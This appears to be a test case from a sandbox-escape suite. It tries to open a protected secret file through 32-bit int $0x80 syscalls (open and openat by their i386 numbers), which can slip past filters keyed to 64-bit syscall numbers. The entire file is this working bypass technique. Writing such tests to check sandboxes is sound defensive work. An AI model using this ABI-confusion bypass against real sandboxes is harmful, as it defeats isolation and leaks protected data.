# SPDX-License-Identifier: Apache-2.0
# attack: the secret opened through int $0x80, whose numbers mean other calls
# class: arch
# wins: leak
# verdict: PV SG
from kit import *

call = function(INT80, *[ctypes.c_long] * 4, low=True)
p = page(4096, 3, 0x62)
ctypes.memmove(p, os.fsencode(SECRET) + b'\0', len(SECRET) + 1)
tried()
fd = call(5, p, 0, 0)
spill(fd)
spill(call(295, -100, p, 0))
